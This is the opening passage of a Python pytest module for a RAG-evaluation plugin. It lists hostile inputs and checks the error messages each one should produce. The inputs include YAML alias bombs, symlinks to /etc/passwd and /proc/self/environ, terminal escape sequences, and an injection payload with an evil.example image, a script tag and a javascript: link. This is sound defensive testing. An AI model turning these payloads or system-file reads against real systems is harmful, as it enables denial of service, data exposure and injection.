"""The catalogue of hostile input and faults: each row a project on disk, a command line, the exit
status and a fragment of the message a user must see, and the promise that no file changed.

Rows marked ``resource`` could hang or fill the memory on a regression; they run in a
subprocess under ``resource.setrlimit`` and a deadline, so that a regression fails in seconds.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from pytest_chunkrecall import __version__
from pytest_chunkrecall.evaluation.results import CaseResult

from .conftest import POLICIES, QUIET, assert_no_internals

OK, FAILED, ERRORS, USAGE = 0, 1, 2, 4

GOLD = """\
cases:
  - id: refund-window
    question: What is the refund window?
    needle: 30 days
"""

RAG = """
import os
import signal
import sys
import threading
import time


def exits(text, **ignored):
    sys.exit(5)


def raises(text, **ignored):
    raise ValueError("boom")


def endless(text, **ignored):
    while True:
        yield text[:10]


def explodes_late(text, **ignored):
    yield text[:10]
    raise RuntimeError("half way")


def search_exits(chunks):
    def search(question, k):
        sys.exit(3)
    return search


def build_exits(chunks):
    raise SystemExit("no index today")


def twice(chunks):
    def search(question, k):
        return [0, 0, 1, 1, 2][:k]
    return search


def hangs(chunks):
    def search(question, k):
        threading.Event().wait()  # never set: the call never returns
    return search


second_asked = threading.Event()


def deadlocks(chunks):
    lock = threading.Lock()

    def search(question, k):
        if "refund" in question:
            second_asked.wait()  # the first case misses once the second case's call is stuck
            return []
        second_asked.set()
        with lock, lock:  # a lock taken twice: the call never returns
            return [0]
    return search


def interrupts(chunks):
    def search(question, k):
        os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C while the call is in flight
        threading.Event().wait()
    return search


FUTURES = os.path.join("concurrent", "futures", "_base.py")


def waits_on_a_future(thread):
    # whether the thread is blocked in a concurrent.futures result() right now
    frame = sys._current_frames().get(thread)
    while frame is not None:
        code = frame.f_code
        if code.co_name == "result" and code.co_filename.endswith(FUTURES):
            return True
        frame = frame.f_back
    return False


def interrupts_its_thread(chunks):
    def search(question, k):
        deadline = time.monotonic() + 60  # a guard against hanging only
        while not waits_on_a_future(threading.main_thread().ident):
            assert time.monotonic() < deadline, "the case's thread never waited for this call"
            time.sleep(0.001)
        # Ctrl-C noted in this thread while the case's thread waits for it: not woken by it
        signal.pthread_kill(threading.get_ident(), signal.SIGINT)
        threading.Event().wait()
    return search


def raises_for_the_fee(chunks):
    def search(question, k):
        if "restocking" in question:
            raise ValueError("no index for fees today")
        return [0]
    return search


def interrupts_the_second(chunks):
    def search(question, k):
        if "refund" in question:  # the second of three cases
            raise KeyboardInterrupt  # as Ctrl-C in the middle of the run
        return [0]
    return search


class BatchInterrupted:
    def __init__(self, chunks):
        pass

    def search(self, question, k):
        return [0]

    def search_batch(self, questions, k):
        raise KeyboardInterrupt


def repeats(text, **ignored):
    return [text] * 200_000


def load_exits(path):
    sys.exit(2)


def reranker_raises(**ignored):
    raise ValueError("no model today")


def reranker_none(**ignored):
    return None


def reranker_number(**ignored):
    return 3


def reranker_object(**ignored):
    return object()


def reranker_needs(model):
    return lambda question, chunks, k: chunks[:k]


def reranker_two(question, chunks):
    return chunks


def retriever_number(chunks):
    return 3


class ChunkerUnbuilt:
    def __init__(self, **args):
        raise ValueError("no tokenizer today")

    def split_text(self, text):
        return [text]


class RetrieverUnbuilt:
    def __init__(self, chunks):
        raise ValueError("no index today")

    def search(self, question, k):
        return []


def load_nothing(path):
    return "Nothing of use here."


def reference_raises(path):
    raise ValueError("no PDF today")


def load_surrogate(path):
    return open(path, encoding="utf-8", errors="surrogateescape").read() + "\\udcff"


def negative(text):
    return -len(text)


def fraction(text):
    return len(text) / 3
"""


def merge_bomb() -> str:
    """Merge keys nine deep, each merging ten of the one before, in a case."""
    text = "&m0 {question: What is the refund window?, needle: 30 days}"
    for level in range(1, 10):
        text = f"&m{level} {{<<: [{text}, " + ", ".join([f"*m{level - 1}"] * 9) + "]}"
    return f"cases:\n  - <<: {text}\n    id: bomb\n"


def alias_bomb(key: str) -> str:
    """Nine nested aliases, each ten of the one before: 10**9 values from 600 bytes."""
    lines = [f"{key}:", "  a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for previous, name in zip("abcdefghi", "bcdefghij", strict=True):
        lines.append(f"  {name}: &{name} [" + ", ".join([f"*{previous}"] * 10) + "]")
    return "\n".join(lines) + "\n" + GOLD


@dataclass(frozen=True)
class Row:
    """One scenario: files on top of the base project, a command line, what must come out."""

    files: dict[str, str | bytes] = field(default_factory=dict)
    args: tuple[str, ...] = ()
    status: int = OK
    says: str = ""  # a fragment of stdout + stderr
    never: str = ""  # a fragment that must not appear
    ini: str = ""
    links: dict[str, str] = field(default_factory=dict)
    fifos: tuple[str, ...] = ()
    writes: tuple[str, ...] = ()  # files the run is meant to write
    changes: tuple[str, ...] = ()  # files of the project the run is meant to rewrite
    shows: tuple[tuple[str, str], ...] = ()  # (file, a fragment it holds after the run)
    hides: tuple[tuple[str, str], ...] = ()  # (file, a fragment it must not hold)
    env: dict[str, str] = field(default_factory=dict)  # for a row in a process of its own
    resource: bool = False
    internals: bool = True  # check that no traceback of ours shows
    command: bool = False  # args are for python -m pytest_chunkrecall, not for pytest


def gold(text: str) -> dict[str, str | bytes]:
    return {"gold/a.yaml": textwrap.dedent(text).lstrip("\n")}


BIG = "x" * 100_000

TWO_CASES = (
    GOLD + "  - id: restocking\n    question: What is the restocking fee?\n    needle: 15 percent\n"
)

IMPORT_QA = ("import", "qa", "rows.jsonl", "--corpus", "docs/*.md", "--out", "gold/imported.yaml")
IMPORT_CHUNKING_EVALUATION = ("import", "chunking-evaluation", "questions_df.csv")
IMPORT_CHUNKING_EVALUATION += ("--corpora", "docs", "--out", "imported")


def questions_df(references: str) -> str:
    """Chroma's questions_df.csv of one question, its references written as given."""
    return f'question,references,corpus_id\n"What is the refund window?","[{references}]",a\n'


SQUAD = """{"version": "1.1", "data": [{"title": "Policies", "paragraphs": [
  {"context": "The refund window is 30 days. A restocking fee of 15 percent applies.",
   "qas": [
     {"id": "x", "question": "What is the refund window?",
      "answers": [{"text": "30 days", "answer_start": 21}]},
     {"id": "x", "question": "What is the restocking fee?",
      "answers": [{"text": "15 percent", "answer_start": 50}]}]}]}]}
"""
SQUAD_WRITES = (
    *("squad", "squad/docs", "squad/gold"),  # the project's folders, made by the import
    *("squad/docs/policies.md", "squad/gold/squad.yaml", "squad/pytest.ini"),
)

REPORT = json.dumps(
    {
        "chunkrecall_report": 1,
        "totals": {
            **{"cases": 0, "hits": 0, "hit_rate": 0, "hit_rate_ci95": [0, 0], "mrr": 0},
            **{"hit_rate_at": {}, "split_spans": 0},
            "verdicts": {"hit": 0, "split": 0, "ranked_out": 0, "absent": 0},
        },
        **{"gold_files": [], "cases": [], "unevaluated": []},
    }
)
BASELINE = '{"chunkrecall_baseline": 1, "gold_files": {}}\n'
HIT = {
    "nodeid": "gold/a.yaml::refund-window",
    **CaseResult(
        **{"gold_file": "gold/a.yaml", "id": "refund-window", "line": 2},
        **{"question": "What is the refund window?", "needles": ["30 days"], "span": None},
        **{"verdict": "hit", "rank": 1, "span_split": False, "k": 1, "match": "normalized"},
        **{"needle_lengths": [7], "span_length": 7, "unit": "characters"},
        **{"retrieved_ids": ["docs/a.md#0"], "holding_ids": ["docs/a.md#0"]},
    ).to_json(),
    "xfail": None,
    "outcome": "passed",
}


def forged(
    *, gold_files: list[str] | None = None, raw: str = "", top: dict | None = None, **case: object
) -> str:
    """A one-case report, its case changed by ``case`` (a number's text replaced by ``raw``).

    Named ``*.report`` in the rows, not ``*.json``: the suite checks every ``*.json`` report
    a scenario leaves against the schema, and these break it on purpose.
    """
    data = json.loads(REPORT)
    data["gold_files"] = [
        {"path": path, "chunks": None, "corpus_chars": None, "totals": data["totals"]}
        for path in (["gold/a.yaml"] if gold_files is None else gold_files)
    ]
    data["cases"] = [{**HIT, **case}]
    data.update(top or {})
    text = json.dumps(data)
    return text.replace('"line": 2', f'"line": {raw}') if raw else text


def with_top(entries: list[object], **top: object) -> str:
    """A one-case report whose case's ``top`` (the chunks it got back) is ``entries``."""
    data = json.loads(forged(top=top))
    data["cases"][0]["top"] = entries
    return json.dumps(data)


def made(commit: str | None, version: str = __version__, **case: object) -> str:
    """A one-case report that says it was run from ``commit`` with pytest-chunkrecall ``version``."""
    return forged(top={"source": {"version": version, "commit": commit}}, **case)


OTHER_CASE = {"nodeid": "gold/a.yaml::restocking", "id": "restocking"}
ESCAPE = "\x1b]0;pwned\x07\x1b[2J"  # a terminal title, then a cleared screen


TWO_HITS = json.dumps(
    {
        "chunkrecall_baseline": 1,
        "gold_files": {
            "gold/a.yaml": {
                "cases": {
                    case: {"verdict": "hit", "rank": 1, "span_split": False}
                    for case in ("refund-window", "restocking")
                }
            }
        },
    }
)
INJECTED = """\
cases:
  - id: a`b
    question: "What is the refund window? ![x](https://evil.example/p.png) <script>alert(1)</script>
      [link](javascript:alert(1)) <details open>"
    needle: 30 days
"""
THREE_CASES = (
    "cases:\n  - id: late\n    question: What is the late fee?\n    needle: 45 days\n"
    + TWO_CASES.removeprefix("cases:\n")
)
SURROGATE_DOCUMENTS = """
def pytest_chunkrecall_documents(config, gold_path):
    return {"a": "Refunds within 30 days.\\udcff"}
"""
SWALLOWS_A_CASE = """
import pytest


@pytest.hookimpl(tryfirst=True)
def pytest_runtest_protocol(item, nextitem):
    if item.name == "restocking":
        return True  # as a plugin that drops a test: it never runs, and no report comes
"""
STOPPED = {"complete": False, "incomplete": {"reason": "interrupted", "not_run": 9}}
HUGE = "9" * 5_000
DAMAGED = "r.report is damaged: case 1 (gold/a.yaml::refund-window)"
COMPARE = ("compare", "r.report", "--baseline", "b.json")
MERGE = ("merge", "r.report", "--out", "m.json")

ROWS: dict[str, Row] = {
    # ---------------------------------------------------------------- YAML
    "broken YAML": Row(gold("cases: [\n"), status=ERRORS, says="invalid YAML"),
    "a tab in the indentation": Row(
        gold("cases:\n\t- question: q\n\t  needle: 30 days\n"),
        status=ERRORS,
        says="gold/a.yaml:2: invalid YAML: a tab in the indentation",
    ),
    "a gold file that is not UTF-8": Row(
        {"gold/a.yaml": GOLD.replace("refund window", "caf\xe9").encode("latin-1")},
        status=ERRORS,
        says="gold/a.yaml:3: not UTF-8 text: byte 0xe9 at column 30 cannot be read; save the file as UTF-8",
    ),
    "an alias bomb under chunker_args": Row(
        {"gold/a.yaml": alias_bomb("chunker_args")},
        status=ERRORS,
        says="gold/a.yaml:2: 'chunker_args' expands through YAML aliases (*name) to more than 10,000 values",
        resource=True,
    ),
    "an alias bomb under an unknown key": Row(
        {"gold/a.yaml": alias_bomb("chunker_argz")},
        status=ERRORS,
        says="unknown key 'chunker_argz' in the gold file; did you mean 'chunker_args'?",
        resource=True,
    ),
    "an alias that contains itself": Row(
        gold("chunker_args: &loop {size: 80, again: *loop}\n" + GOLD),
        status=ERRORS,
        says="'chunker_args' contains itself through a YAML alias",
    ),
    "300 levels of brackets": Row(
        gold("chunker_args: {size: " + "[" * 300 + "]" * 300 + "}\n" + GOLD),
        status=ERRORS,
        says="gold/a.yaml:1: 'chunker_args' is nested more than 64 levels deep",
    ),
    "two YAML documents in one file": Row(
        gold(GOLD + "---\n" + GOLD), status=ERRORS, says="invalid YAML: expected a single document"
    ),
    "a NUL byte in a gold file": Row(
        gold(GOLD.replace("refund window", "refund\0window")),
        status=ERRORS,
        says="gold/a.yaml:3: invalid YAML: the control character U+0000 is not allowed",
    ),
    "a gold file with a byte-order mark": Row(gold("\ufeff" + GOLD), says="1 passed"),
    "a merge key": Row(
        gold(
            """
            cases:
              - &base
                id: refund-window
                question: What is the refund window?
                needle: 30 days
              - <<: *base
                id: refund-again
            """
        ),
        says="2 passed",
    ),
    "merge keys nine deep, ten wide": Row(
        {"gold/a.yaml": merge_bomb()}, says="1 passed", resource=True
    ),
    "a merge key that merges a list": Row(
        gold("cases:\n  - <<: [[a, b]]\n    question: q\n    needle: 30 days\n"),
        status=ERRORS,
        says="gold/a.yaml:2: '<<' merges a mapping (<<: *name) or a list of them, not a list",
    ),
    "a key given twice": Row(
        gold("cases:\n  - question: q\n    question: r\n    needle: 30 days\n"),
        status=ERRORS,
        says="key 'question' is given twice in a case",
    ),
    "an empty gold file, named on the command line": Row(
        gold("# nothing yet\n"),
        args=("gold/a.yaml",),
        status=ERRORS,
        says="the file is empty",
    ),
    "an empty YAML file in a gold folder is said once": Row(
        {**gold("cases:\n  - {question: q, needle: 30 days}\n"), "gold/empty.yaml": "# later\n"},
        status=FAILED,
        says="GoldWarning: gold/empty.yaml is empty; it is not collected as a gold file",
    ),
    "a list in a gold folder is said once": Row(
        {"gold/list.yaml": "- question: q\n  needle: 30 days\n"},
        says="GoldWarning: gold/list.yaml holds a list, not a mapping with 'cases:'; "
        "it is not collected as a gold file",
    ),
    "an empty cases list": Row(gold("cases: []\n"), status=ERRORS, says="'cases' is empty"),
    "a case that is a list": Row(
        gold("cases:\n  - [question, needle]\n"), status=ERRORS, says="a case must be a mapping"
    ),
    "an unknown key with a near miss": Row(
        gold("cases:\n  - question: q\n    neddle: 30 days\n"),
        status=ERRORS,
        says="unknown key 'neddle' in a case; did you mean 'needle'?",
    ),
    "a case id with an escape sequence": Row(
        gold('cases:\n  - id: "red\\e[31mX"\n    question: q\n    needle: 30 days\n'),
        status=ERRORS,
        says="gold/a.yaml:2: 'id' may not contain '::', line breaks or other control "
        "characters: 'red\\x1b[31mX'",
        never="\x1b",
    ),
    **{
        f"a gold file whose name holds {what}": Row(
            {f"gold/b{character}.yaml": GOLD},
            status=ERRORS,
            says=f"chunkrecall: gold/b{escaped}.yaml: the gold file's path holds control "
            "characters; rename the file",
        )
        for what, character, escaped in (
            ("an escape sequence", "\x1b[31m", "\\x1b[31m"),
            ("a line break", "\nFAILED", "\\nFAILED"),
        )
    },
    "a misplaced case key": Row(
        gold("needle: 30 days\n" + GOLD), status=ERRORS, says="'needle' belongs in a case"
    ),
    "no question": Row(
        gold("cases:\n  - needle: 30 days\n"), status=ERRORS, says="this case has no 'question:'"
    ),
    "an empty needle in a list": Row(
        gold('cases:\n  - question: q\n    needles: [30 days, ""]\n'),
        status=ERRORS,
        says="gold/a.yaml:3: item 2 of 'needles' is empty",
    ),
    "duplicate ids": Row(
        gold(GOLD + "  - id: refund-window\n    question: again?\n    needle: 30 days\n"),
        status=ERRORS,
        says="duplicate case id 'refund-window' (first used on line 2)",
    ),
    "an id with ::": Row(
        gold("cases:\n  - id: a::b\n    question: q\n    needle: 30 days\n"),
        status=ERRORS,
        says="'id' may not contain '::'",
    ),
    "a huge scalar is trimmed": Row(
        gold(f"match: {BIG}\n" + GOLD),
        status=ERRORS,
        says="(100,000 characters)",
        never="x" * 1_000,
    ),
    "a huge id is trimmed": Row(
        gold(f"cases:\n  - id: '{BIG}::'\n    question: q\n    needle: n\n"),
        status=ERRORS,
        says="(100,002 characters)",
        never="x" * 1_000,
    ),
    "a huge needle is trimmed in the failure": Row(
        gold(f"cases:\n  - question: q{BIG}\n    needle: {BIG}\n"),
        status=FAILED,
        says="not in the corpus: 'xxxxx",
        never="x" * 1_000,
    ),
    "a needle that is a mapping": Row(
        gold("cases:\n  - question: q\n    needle: {a: 1}\n"),
        status=ERRORS,
        says="'needle' must be text, not a mapping",
    ),
    "a bad tag": Row(
        gold("k: !!int three\n" + GOLD), status=ERRORS, says="gold/a.yaml:1: 'k' cannot be read"
    ),
    "xfail that is a number": Row(
        gold(GOLD + "    xfail: 5\n"), status=ERRORS, says="'xfail' must be a reason (text) or true"
    ),
    "marks that are no names": Row(
        gold(GOLD + "    marks: [1bad]\n"),
        status=ERRORS,
        says="'marks' must be a list of mark names",
    ),
    # ---------------------------------------------------------------- settings
    "k of a billion": Row(
        gold("k: 1000000000\n" + GOLD),
        status=ERRORS,
        says="gold/a.yaml:1: 'k' must be at most 10,000, not 1,000,000,000",
    ),
    "--chunkrecall-k of twenty digits": Row(
        args=("--chunkrecall-k", "99999999999999999999"),
        status=USAGE,
        says="--chunkrecall-k must be at most 10,000",
    ),
    "k of zero": Row(gold("k: 0\n" + GOLD), status=ERRORS, says="'k' must be at least 1, not 0"),
    "k that is true": Row(
        gold("k: true\n" + GOLD), status=ERRORS, says="'k' must be a whole number of chunks"
    ),
    "chunker_args that are a list": Row(
        gold("chunker_args: [80, 24]\n" + GOLD),
        status=ERRORS,
        says="'chunker_args' must be a mapping of argument names to values",
    ),
    "an overlap as large as the size": Row(
        gold("chunker_args: {size: 80, overlap: 80}\n" + GOLD),
        status=FAILED,
        says="overlap must be a whole number from 0 to size - 1 (79), not 80",
    ),
    "a fuzzy threshold of 200": Row(
        gold("fuzzy_threshold: 200\n" + GOLD), status=ERRORS, says="must be from 0 to 100, not 200"
    ),
    "a misspelt match mode": Row(
        gold("match: fuzzzy\n" + GOLD), status=ERRORS, says="did you mean 'fuzzy'?"
    ),
    "a chunker that is no entry point": Row(
        gold("chunker: notanentry\n" + GOLD), status=ERRORS, says="must be 'module:attr'"
    ),
    "a chunker module that does not exist": Row(
        gold("chunker: nosuch.module:chunk\n" + GOLD),
        status=ERRORS,
        says="no module named 'nosuch'",
    ),
    "ini chunker_args that are no YAML": Row(
        ini="chunkrecall_chunker_args = {size: [",
        status=USAGE,
        says="ini option chunkrecall_chunker_args: cannot read",
    ),
    "a chunkrecall_gold pattern outside the rootdir": Row(
        {"../outside/gold/a.yaml": GOLD},
        ini="chunkrecall_gold = ../outside/gold/*.yaml",
        status=5,  # no tests collected
        says="the 1 file it matches lies outside the rootdir, where pytest does not collect",
    ),
    "a chunkrecall_gold pattern that matches nothing": Row(
        ini="chunkrecall_gold = golden/*.yaml",
        status=5,  # no tests collected
        says="pytest.ini:4: PytestConfigWarning: chunkrecall_gold pattern 'golden/*.yaml' matches no file",
        never="options.py",
    ),
    "an alias bomb in ini chunker_args": Row(
        ini="chunkrecall_chunker_args = {a: &a [x, x, x, x, x, x, x, x, x, x], "
        + ", ".join(
            f"{n}: &{n} [" + ", ".join([f"*{p}"] * 10) + "]"
            for p, n in zip("abcdefghi", "bcdefghij", strict=True)
        )
        + "}",
        status=USAGE,
        says="ini option chunkrecall_chunker_args: 'chunkrecall_chunker_args' expands through YAML aliases",
        resource=True,
    ),
    # ---------------------------------------------------------------- user code
    "a chunker that calls sys.exit": Row(
        gold("chunker: rag:exits\n" + GOLD),
        status=FAILED,
        says="chunker rag:exits raised on docs/a.md: SystemExit(5)",
    ),
    "a chunker that raises": Row(
        gold("chunker: rag:raises\n" + GOLD), status=FAILED, says="ValueError: boom"
    ),
    "a chunker generator that raises half way": Row(
        gold("chunker: rag:explodes_late\n" + GOLD),
        status=FAILED,
        says="chunker rag:explodes_late raised on docs/a.md: RuntimeError: half way",
    ),
    "a chunker without end": Row(
        gold("chunker: rag:endless\n" + GOLD),
        status=FAILED,
        says="chunker rag:endless was stopped on docs/a.md: its chunks passed 20 times",
        resource=True,
    ),
    "a retriever that calls sys.exit": Row(
        gold("retriever: rag:search_exits\n" + GOLD),
        status=FAILED,
        says="retriever rag:search_exits raised SystemExit(3)",
    ),
    "a retriever factory that raises SystemExit": Row(
        gold("retriever: rag:build_exits\n" + GOLD),
        status=FAILED,
        says="failed while building its index over",
    ),
    "a retriever call that hangs, under --timeout": Row(
        gold("retriever: rag:hangs\n" + GOLD),
        ini="chunkrecall_concurrency = 4",
        args=("--timeout", "2"),
        status=FAILED,
        says="1 retriever call was still running when the run ended",
        resource=True,
        internals=False,  # pytest-timeout shows the stack of every thread, ours included
    ),
    "a retriever that deadlocks, under -x": Row(
        gold("retriever: rag:deadlocks\n" + TWO_CASES),
        ini="chunkrecall_concurrency = 4",
        args=("-x",),
        status=FAILED,
        says="1 retriever call was still running when the run ended",
        resource=True,
    ),
    "Ctrl-C while a retriever call hangs": Row(
        gold("retriever: rag:interrupts\n" + GOLD),
        ini="chunkrecall_concurrency = 4",
        status=ERRORS,  # interrupted
        says="1 retriever call was still running when the run ended",
        resource=True,
    ),
    "Ctrl-C noted in the thread of a retriever call that hangs": Row(
        gold("retriever: rag:interrupts_its_thread\n" + GOLD),
        ini="chunkrecall_concurrency = 4",
        status=ERRORS,  # interrupted
        says="1 retriever call was still running when the run ended",
        resource=True,
    ),
    "KeyboardInterrupt in search_batch": Row(
        gold("retriever: rag:BatchInterrupted\n" + TWO_CASES),
        status=ERRORS,  # interrupted
        says="KeyboardInterrupt",
        never="raised KeyboardInterrupt",
        resource=True,  # pytest stops as after Ctrl-C
    ),
    "KeyboardInterrupt in search_batch, in a thread": Row(
        gold("retriever: rag:BatchInterrupted\n" + TWO_CASES),
        ini="chunkrecall_concurrency = 2",
        status=ERRORS,  # interrupted
        says="KeyboardInterrupt",
        never="raised KeyboardInterrupt",
        resource=True,  # pytest stops as after Ctrl-C
    ),
    "a retriever that returns a chunk twice": Row(
        gold("retriever: rag:twice\nchunker_args: {size: 80, overlap: 28}\n" + GOLD),
        says="gold/a.yaml:4: RetrievalWarning: retriever rag:twice returned the same chunk",
    ),
    "a chunker that returns one list of 200,000 copies": Row(
        gold("chunker: rag:repeats\n" + GOLD),
        status=FAILED,
        says="chunker rag:repeats was stopped on docs/a.md: its chunks passed 20 times",
        resource=True,
    ),
    **{
        f"a reranker that cannot be built ({why}){suffix}": Row(
            {**gold(f"reranker: rag:{factory}\n" + GOLD), "gold/b.yaml": GOLD},
            args=args,
            status=FAILED,  # the gold file's case fails; the other gold file runs
            says=f"gold/a.yaml:1: reranker rag:{factory} {message}",
            never="INTERNALERROR",
        )
        for why, factory, message in (
            (
                "a factory that raises",
                "reranker_raises",
                "was called as a factory with {} and raised",
            ),
            ("a factory that returns None", "reranker_none", "gave None; it must be"),
            ("a factory that returns a number", "reranker_number", "gave an int; it must be"),
            ("a factory that returns an object", "reranker_object", "gave an object; it must be"),
            ("a factory that needs an argument", "reranker_needs", "was called as a factory"),
            ("a function of two parameters", "reranker_two", "was called as a factory"),
        )
        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
    },
    **{
        f"a {role} class that cannot be built{suffix}": Row(
            {**gold(f"{role}: rag:{name}\n" + GOLD), "gold/b.yaml": GOLD},
            args=args,
            status=FAILED,  # the gold file's case fails, as with a reranker; the other one runs
            says=f"gold/a.yaml: {role} rag:{name}{message}",
            never="INTERNALERROR",
        )
        for role, name, message in (
            ("chunker", "ChunkerUnbuilt", "(**{}) failed: ValueError: no tokenizer today"),
            ("retriever", "RetrieverUnbuilt", " failed while building its index over 1 chunk"),
        )
        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
    },
    "a retriever factory that returns a number": Row(
        {**gold("retriever: rag:retriever_number\n" + GOLD), "gold/b.yaml": GOLD},
        status=FAILED,
        says="retriever rag:retriever_number",
        never="INTERNALERROR",
    ),
    "a loader that calls sys.exit": Row(
        ini="chunkrecall_loader = rag:load_exits",
        status=FAILED,
        says="loader rag:load_exits failed on docs/a.md",
    ),
    **{
        f"a loader that returns a lone surrogate{suffix}": Row(
            ini="chunkrecall_loader = rag:load_surrogate",
            args=args,
            status=FAILED,
            says="loader rag:load_surrogate returned text for docs/a.md that holds a lone "
            "surrogate (U+DCFF at offset 502), which is no Unicode character",
            never="INTERNALERROR",
        )
        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
    },
    **{
        f"a documents hook that returns a lone surrogate{suffix}": Row(
            {"conftest.py": SURROGATE_DOCUMENTS},
            args=args,
            status=status,  # a collection error; xdist exits 1 on one
            says="document 'a' from pytest_chunkrecall_documents holds a lone surrogate "
            "(U+DCFF at offset 23), which is no Unicode character",
            never="INTERNALERROR",
        )
        for suffix, args, status in (("", (), ERRORS), (", under -n 2", ("-n", "2"), FAILED))
    },
    "a reference loader that raises": Row(
        {**gold("corpus: ../docs/*.pdf\n" + GOLD), "docs/a.pdf": POLICIES},
        ini="chunkrecall_loader = rag:load_nothing\nchunkrecall_reference_loader = rag:reference_raises",
        status=FAILED,
        says="  not checked: reference loader rag:reference_raises failed on docs/a.pdf: "
        'ValueError: no PDF today:\n      File "rag.py", line ',
        never='File "/',
    ),
    "a length function that returns negative numbers": Row(
        ini="chunkrecall_length = rag:negative",
        status=USAGE,
        says="length function rag:negative returned -41; it must return a whole number, 0 or more",
    ),
    "a length function that returns fractions": Row(
        ini="chunkrecall_length = rag:fraction",
        status=USAGE,
        says="length function rag:fraction returned 13.66",
    ),
    # ---------------------------------------------------------------- corpus
    "a binary corpus file": Row(
        {"docs/b.md": b"\xff\xfe\x00binary"},
        status=FAILED,
        says="corpus file docs/b.md is not UTF-8 text (byte 0xff at offset 0)",
    ),
    "a corpus that matches nothing": Row(
        gold("corpus: ../nowhere/*.md\n" + GOLD), status=ERRORS, says="matches no file"
    ),
    "a corpus that matches only folders": Row(
        {**gold("corpus: ../docs/su*\n" + GOLD), "docs/sub/x.txt": "x"},
        status=ERRORS,
        says="corpus pattern '../docs/su*' matches no file: it matches only folders",
    ),
    "a corpus symlink that leads to itself": Row(
        gold("corpus: ../docs/loop.md\n" + GOLD),
        links={"docs/loop.md": "loop.md"},
        status=ERRORS,
        says="../docs/loop.md is a symlink that leads to itself",
        never="only folders",
    ),
    "a symlink cycle under **": Row(
        gold("corpus: ../docs/**/*.md\n" + GOLD),
        links={"docs/up": "..", "docs/again": ".."},
        says="is a symlink back to ../docs, which is being walked already; skipped",
        args=("gold/a.yaml",),
        resource=True,
    ),
    "a corpus file linked from outside the project": Row(
        links={"docs/extra.md": "/etc/passwd"},
        status=ERRORS,
        says="corpus file /etc/passwd lies outside the rootdir",
    ),
    "a corpus pattern that names a file elsewhere": Row(
        gold("corpus: [../docs/*.md, /etc/passwd]\n" + GOLD),
        status=ERRORS,
        says="lies outside the rootdir",
    ),
    "a corpus link to the process environment": Row(
        links={"docs/env.md": "/proc/self/environ"},
        status=ERRORS,
        says="lies outside the rootdir",
    ),
    "a FIFO among the corpus files": Row(fifos=("docs/pipe.md",), says="1 passed", resource=True),
    "a FIFO among the gold files": Row(fifos=("gold/pipe.yaml",), says="1 passed", resource=True),
    "a link to a device among the corpus files": Row(
        links={"docs/zero.md": "/dev/zero"}, says="1 passed", resource=True
    ),
    "a corpus file outside, in chunkrecall_corpus_roots": Row(
        links={"docs/extra.md": "/etc/passwd"},
        ini="chunkrecall_corpus_roots = /etc",
        says="1 passed",
    ),
    "terminal escapes in a question": Row(
        gold('cases:\n  - question: "\\e[2J\\e[8mHIDDEN\\rOK passed"\n    needle: 45 days\n'),
        status=FAILED,
        says="question: \\x1b[2J\\x1b[8mHIDDEN\\rOK passed",
        never="\x1b[2J",
    ),
    "a minus sign under fuzzy matching": Row(
        {
            **gold(
                "match: fuzzy\ncases:\n  - question: What is the late fee?\n"
                "    needle: fee is -15 percent\n"
            ),
            "docs/fee.md": "The late fee is 15 percent of the order.\n",
        },
        status=FAILED,
        says="chunkrecall: absent — it is not in the corpus",
    ),
    "a needle that is not in the corpus": Row(
        gold("cases:\n  - question: q\n    needle: 45 days\n"), status=FAILED, says="absent"
    ),
    # ---------------------------------------------------------------- outputs
    "a report into a folder": Row(
        {"out/keep": "x"},
        args=("--chunkrecall-report", "out"),
        status=USAGE,
        says="--chunkrecall-report out: it is a folder, not a regular file",
    ),
    "a report into a FIFO": Row(
        args=("--chunkrecall-report", "pipe"),
        fifos=("pipe",),
        resource=True,
        status=USAGE,
        says="--chunkrecall-report pipe: it is a FIFO (named pipe), not a regular file",
    ),
    "a report through a link to a stream": Row(
        args=("--chunkrecall-report", "stdout.json"),
        links={"stdout.json": "/proc/self/fd/1"},
        status=USAGE,
        says="not a file with a name",
    ),
    "a report below a file": Row(
        args=("--chunkrecall-report", "docs/a.md/r.json"),
        status=USAGE,
        says="is a file, not a folder",
    ),
    "a report through a symlink loop": Row(
        args=("--chunkrecall-report", "r.json"),
        links={"r.json": "r.json"},
        status=USAGE,
        says="--chunkrecall-report r.json: it is a symlink loop",
    ),
    "a report written": Row(
        args=("--chunkrecall-report", "r.json"), writes=("r.json",), says="JSON report written"
    ),
    **{
        f"{option} ''": Row(
            args=(option, ""),
            status=USAGE,
            says=f"{option} is empty: give the path of the file to write",
        )
        for option in ("--chunkrecall-report", "--chunkrecall-html", "--chunkrecall-markdown")
    },
    # ---------------------------------------------------------------- outputs on the user's files
    "a report onto a corpus document": Row(
        args=("--chunkrecall-report", "docs/a.md"),
        status=USAGE,
        says="--chunkrecall-report docs/a.md: it is a corpus document (ini option "
        "chunkrecall_corpus: 'docs/*.md'), and the run never writes over the project's own files",
    ),
    "Markdown onto a corpus document not written yet": Row(
        args=("--chunkrecall-markdown", "docs/summary.md"),
        status=USAGE,
        says="--chunkrecall-markdown docs/summary.md: it is a corpus document",
    ),
    "a report through a link to a corpus document": Row(
        args=("--chunkrecall-report", "out.json"),
        links={"out.json": "docs/a.md"},
        status=USAGE,
        says="--chunkrecall-report out.json: it is a corpus document",
    ),
    "Markdown onto a gold file": Row(
        args=("--chunkrecall-markdown", "gold/a.yaml"),
        status=USAGE,
        says="--chunkrecall-markdown gold/a.yaml: it is a gold file",
    ),
    "HTML onto the ini file": Row(
        args=("--chunkrecall-html", "pytest.ini"),
        status=USAGE,
        says="--chunkrecall-html pytest.ini: it is the ini file of this run",
    ),
    "the ini's HTML page onto pyproject.toml": Row(
        {"pyproject.toml": "[project]\nname = 'shop'\n"},
        ini="chunkrecall_html = pyproject.toml",
        status=USAGE,
        says="pyproject.toml: it is the project's pyproject.toml",
    ),
    "a report onto a conftest": Row(
        {"conftest.py": "# the project's fixtures\n"},
        args=("--chunkrecall-report", "conftest.py"),
        status=USAGE,
        says="--chunkrecall-report conftest.py: it is the project's conftest.py",
    ),
    "Markdown onto a source file": Row(
        args=("--chunkrecall-markdown", "rag.py"),
        status=USAGE,
        says="--chunkrecall-markdown rag.py: it is a Python source file",
    ),
